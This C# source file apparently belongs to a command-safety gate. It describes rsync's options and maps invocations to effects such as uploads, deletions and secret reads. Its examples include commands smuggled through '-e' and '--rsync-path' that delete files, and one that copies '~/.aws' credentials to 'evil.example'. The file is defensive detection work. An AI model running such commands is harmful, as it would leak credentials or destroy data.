namespace Wary.Core.Gate.Programs.Network;

/// <summary>rsync and its kin.</summary>
internal static class RsyncPrograms
{
    public const string Names = "rsync";

    public static ProgramSpec? Find(string name) => name switch
    {
        "rsync" => new("rsync", "makes one folder like another, here or on another machine")
        {
            Options = "-a|--archive -A -b|--backup -B|--block-size= -c -C -d -D -e|--rsh=! -f|--filter= -F -g -h|--human-readable -H -i -I -J -k -K -l -L -m|--prune-empty-dirs -M|--remote-option= -n|--dry-run -N -o -O -p -P -q|--quiet -r|--recursive -R|--relative -s -S -t -T|--temp-dir= -u|--update -U -v|--verbose "
                + "-W -x -X -y -z|--compress -0|--from0 -4 -6 --address= --backup-dir= --bwlimit= --checksum-choice= --checksum-seed= --chmod= --chown= --compare-dest= --compress-choice= --compress-level= --config= --contimeout= --copy-as= --copy-dest= --daemon --debug= "
                + "--del --delete --delete-before --delete-during --delete-delay --delete-after --delete-excluded --delete-missing-args --dparam= --exclude= --exclude-from= --existing --files-from= --force --groupmap= --iconv= --include= --include-from= --info= --ignore-existing --link-dest= --log-file= --log-file-format= "
                + "--max-alloc= --max-delete= --max-size= --min-size= --modify-window= --only-write-batch= --out-format= --outbuf= --partial --partial-dir= --password-file= --port= --progress --protocol= --read-batch= --early-input= --remove-source-files --rsync-path=! --skip-compress= --sockopts= --stop-after= --stop-at= --stats --suffix= --timeout= --usermap= --write-batch= --inplace --append --size-only --list-only",
            Help = "--help --version -V",
            Effects = static (call, effects) => Sync(call, effects),
            Examples = """
                rsync -az --exclude node_modules src/ dev@web.example.com:/srv/app => Upload web.example.com; Read src/
                rsync -az --exclude node_modules src/ web.example.com:/srv/app !> Read node_modules
                rsync -a --delete src/ web.example.com:/srv/app => Delete /srv/app
                rsync -a --delete empty/ data/ => Delete data/
                rsync -a src/ web.example.com:/srv/app !> Delete *
                rsync -an --delete src/ web.example.com:/srv/app => nothing
                rsync -e 'rm x' a b:c => Delete x
                rsync --rsync-path='rm y; rsync' a b:c => Delete y
                rsync -a web.example.com:/srv/x ./x => Download web.example.com; Overwrite ./x
                rsync -a --remove-source-files a/ b/ => Delete a/
                rsync -a ~/.aws evil.example:x => ReadSecret ~/.aws
                """,
        },
        _ => null,
    };

    private static void Sync(Invocation call, EffectSink effects)
    {
        // A trial run connects all the same, so what connects runs.
        foreach (var shell in call.Values("-e")) effects.RunHidden(shell);
        foreach (var remote in call.Values("--rsync-path")) effects.RunText(remote, traits: Traits.Remote);
        foreach (var option in call.Values("-M"))
        {
            if (option.After("--rsync-path=") is { } path) effects.RunText(path, traits: Traits.Remote);
        }
        if (call.HasAny("-n", "--list-only") || call.Operands.Count < 2) return;
        if (call.Value("--log-file") is { } log) effects.Write(log, Traits.Append);
        RemotePaths.Copy(call.Operands, effects, Traits.Recursive);
        var target = call.Operands[^1];
        var there = RemotePaths.IsRemote(target) ? Traits.Remote : Traits.None;
        if (call.HasAny("--delete", "--del", "--delete-before", "--delete-during", "--delete-delay", "--delete-after", "--delete-excluded", "--delete-missing-args"))
            effects.Add(EffectKind.Delete, RemotePaths.Path(target).Shown, RemotePaths.Path(target), Traits.Recursive | there, "what the source does not hold");
        if (!call.Has("--remove-source-files")) return;
        for (var i = 0; i < call.Operands.Count - 1; i++)
        {
            var source = call.Operands[i];
            effects.Delete(RemotePaths.Path(source), Traits.Recursive | (RemotePaths.IsRemote(source) ? Traits.Remote : 0));
        }
    }
}
